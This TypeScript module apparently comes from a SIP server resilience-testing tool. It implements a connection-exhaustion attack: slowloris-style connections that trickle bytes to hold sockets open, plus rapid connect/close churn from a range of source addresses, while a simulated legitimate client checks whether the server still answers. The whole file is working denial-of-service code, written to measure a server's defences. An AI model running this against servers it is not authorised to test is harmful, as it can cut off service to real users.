/**
 * tcp-exhaust: the connection table under attack. Slow connections (slowloris): each opens,
 * sends the start of a request and then one more byte every --interval, never finishing
 * its headers, held until --duration ends or the target closes it. Connection churn:
 * --count connections opened and closed at once, at --rate. Meanwhile a legitimate client
 * from another address connects now and then and sends a whole OPTIONS: the question is
 * whether it still gets an answer. A target that bounds header time and connections per
 * address closes the slow ones and keeps serving.
 */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type AddressRange, ipv4ToNumber } from '../address-range.ts';
import { achievedRate, type CommonOptions, sourcesOf } from '../context.ts';
import { pace } from '../pacer.ts';
import { Random } from '../random.ts';
import type { AttackReport } from '../report.ts';
import { requestText, sipUri } from '../sip-text.ts';
import { round } from '../tally.ts';
import { type Endpoint, formatEndpoint } from '../target.ts';

export interface TcpExhaustOptions extends CommonOptions {
  /** Slow connections to hold open. */
  readonly connections: number;
  /** Pause between the bytes of a slow connection. */
  readonly intervalMs: number;
  /** Address of the legitimate client; default a loopback address outside the attack's. */
  readonly legitSource?: string;
}

const CONNECT_TIMEOUT_MS = 3000;
const PROBE_TIMEOUT_MS = 3000;
const PROBES = 3;

interface SlowConnection {
  socket: Socket;
  opened: boolean;
  closedByTarget: boolean;
  openedAt: number;
  closedAt: number;
}

/** A legitimate client's address outside the attack's range. */
export function legitAddress(range: AddressRange, given?: string): string {
  if (given !== undefined) return given;
  if (range.family === 6) return range.at(0);
  const first = ipv4ToNumber(range.at(0));
  const last = ipv4ToNumber(range.at(range.size - 1));
  for (const candidate of ['127.0.0.99', '127.0.0.98', '127.255.255.99']) {
    const n = ipv4ToNumber(candidate);
    if (n < first || n > last) return candidate;
  }
  return '127.0.0.1';
}

function open(target: Endpoint, localAddress: string): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const socket = connect({ host: target.address, port: target.port, localAddress });
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(undefined);
    }, CONNECT_TIMEOUT_MS);
    socket.once('connect', () => {
      clearTimeout(timer);
      resolve(socket);
    });
    socket.once('error', () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(undefined);
    });
  });
}

/** One legitimate OPTIONS over a fresh connection: true when any SIP response comes back. */
export async function probeTcp(target: Endpoint, localAddress: string, random: Random): Promise<boolean> {
  const socket = await open(target, localAddress);
  if (!socket) return false;
  return new Promise((resolve) => {
    let received = '';
    const done = (answered: boolean) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(answered);
    };
    const timer = setTimeout(() => done(false), PROBE_TIMEOUT_MS);
    socket.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1');
      if (received.length > 16) done(received.startsWith('SIP/2.0 '));
    });
    socket.on('error', () => done(false));
    socket.on('close', () => done(received.startsWith('SIP/2.0 ')));
    const port = socket.localPort ?? 0;
    socket.write(
      requestText({
        method: 'OPTIONS',
        requestUri: sipUri(undefined, target.address, target.port),
        via: { transport: 'TCP', host: localAddress, port, branch: `z9hG4bKlegit${random.token(10)}` },
        from: sipUri('legit', target.address),
        fromTag: random.token(8),
        to: sipUri(undefined, target.address),
        callId: random.token(16),
        cseq: 1,
      }),
      'latin1',
    );
  });
}

export async function runTcpExhaust(options: TcpExhaustOptions): Promise<AttackReport> {
  const { target, limits } = options;
  const random = new Random(options.seed);
  const range = sourcesOf(options);
  const sourceCount = Math.max(1, Math.min(range.size, options.maxSources ?? 1024));
  const legit = legitAddress(range, options.legitSource);
  const slow: SlowConnection[] = [];
  const started = performance.now();
  const startedAt = new Date().toISOString();
  const deadline = started + limits.durationMs;
  let churnOpened = 0;
  let churnFailed = 0;
  let slowFailed = 0;
  const probes: boolean[] = [];
  const trickle = `OPTIONS ${sipUri(undefined, target.address, target.port)} SIP/2.0\r\nX-Slow: `;

  // Slow connections, opened as fast as the target accepts them, then fed one byte at a time.
  const openSlow = async (): Promise<void> => {
    const batch: Promise<void>[] = [];
    for (let i = 0; i < options.connections && performance.now() < deadline; i++) {
      const localAddress = range.at(i % sourceCount);
      batch.push(
        open(target, localAddress).then((socket) => {
          if (!socket) {
            slowFailed++;
            return;
          }
          const entry: SlowConnection = {
            socket,
            opened: true,
            closedByTarget: false,
            openedAt: performance.now(),
            closedAt: 0,
          };
          slow.push(entry);
          socket.on('error', () => {});
          socket.on('data', () => {});
          socket.once('close', () => {
            if (entry.closedAt === 0) {
              entry.closedByTarget = true;
              entry.closedAt = performance.now();
            }
          });
          socket.write(trickle.slice(0, 16), 'latin1');
        }),
      );
      if (batch.length >= 64) await Promise.all(batch.splice(0));
    }
    await Promise.all(batch);
  };

  const feed = async (): Promise<void> => {
    let position = 0;
    while (performance.now() < deadline && !options.signal?.aborted) {
      await sleep(Math.min(options.intervalMs, Math.max(1, deadline - performance.now())));
      position++;
      for (const entry of slow) {
        if (entry.closedAt === 0 && !entry.socket.destroyed) entry.socket.write('a', 'latin1');
      }
      if (position > 1_000_000) break;
    }
  };

  const churn = async (): Promise<{ sent: number; elapsedMs: number }> =>
    pace(
      { ...limits, count: limits.count, ...(options.signal ? { signal: options.signal } : {}) },
      async (i) => {
        const socket = await open(target, range.at(i % sourceCount));
        if (!socket) churnFailed++;
        else {
          churnOpened++;
          socket.destroy();
        }
        return undefined;
      },
    );

  const probe = async (): Promise<void> => {
    for (let i = 0; i < PROBES; i++) {
      // Spread over the run: a quarter in, half way, near the end.
      const at = started + limits.durationMs * [0.25, 0.5, 0.85][i]!;
      await sleep(Math.max(0, at - performance.now()));
      if (options.signal?.aborted) return;
      probes.push(await probeTcp(target, legit, random));
    }
  };

  try {
    const [, , churned] = await Promise.all([openSlow().then(feed), probe(), churn()]);
    const now = performance.now();
    const opened = slow.length;
    const closedByTarget = slow.filter((s) => s.closedByTarget);
    const heldSeconds = closedByTarget.map((s) => (s.closedAt - s.openedAt) / 1000).sort((a, b) => a - b);
    const medianHeld =
      heldSeconds.length > 0 ? round(heldSeconds[Math.floor(heldSeconds.length / 2)]!) : null;
    const answeredProbes = probes.filter(Boolean).length;
    const noListener = opened === 0 && churnOpened === 0 && answeredProbes === 0;
    const succeeded = !noListener && answeredProbes < probes.length;
    const attempted = options.connections + churned.sent;
    const accepted = opened + churnOpened;
    return {
      kind: 'tcp-exhaust',
      target: formatEndpoint(target),
      transport: 'tcp',
      startedAt,
      seconds: round((now - started) / 1000),
      unit: 'connection',
      rate: { asked: limits.rate, achieved: achievedRate(churned.sent, churned.elapsedMs) },
      sources: { count: sourceCount, first: range.at(0), last: range.at(sourceCount - 1) },
      sendErrors: 0,
      answers: {
        sent: attempted,
        answered: accepted,
        provisionalOnly: 0,
        silent: attempted - accepted,
        byStatus: {},
        responses: accepted,
        unmatched: 0,
      },
      succeeded,
      applicable: !noListener,
      outcome: noListener
        ? 'no TCP listener: nothing to exhaust'
        : succeeded
          ? `a legitimate TCP client was shut out (${answeredProbes} of ${probes.length} attempts answered)`
          : `a legitimate TCP client still got through (${answeredProbes} of ${probes.length}); ${closedByTarget.length} of ${opened} slow connections closed by the target`,
      details: {
        slowOpened: opened,
        slowRefused: slowFailed,
        slowClosedByTarget: closedByTarget.length,
        slowMedianHeldSeconds: medianHeld,
        churnOpened,
        churnFailed,
        legitSource: legit,
        legitAnswered: answeredProbes,
        legitAttempts: probes.length,
      },
      notes: [
        `slow      ${opened} of ${options.connections} opened, ${closedByTarget.length} closed by the target${medianHeld === null ? '' : ` (median after ${medianHeld} s)`}, ${slowFailed} refused`,
        `churn     ${churnOpened} opened and closed, ${churnFailed} refused`,
        `legit     ${answeredProbes} of ${probes.length} OPTIONS from ${legit} answered`,
      ],
    };
  } finally {
    for (const entry of slow) {
      if (entry.closedAt === 0) entry.closedAt = performance.now();
      entry.socket.destroy();
    }
  }
}
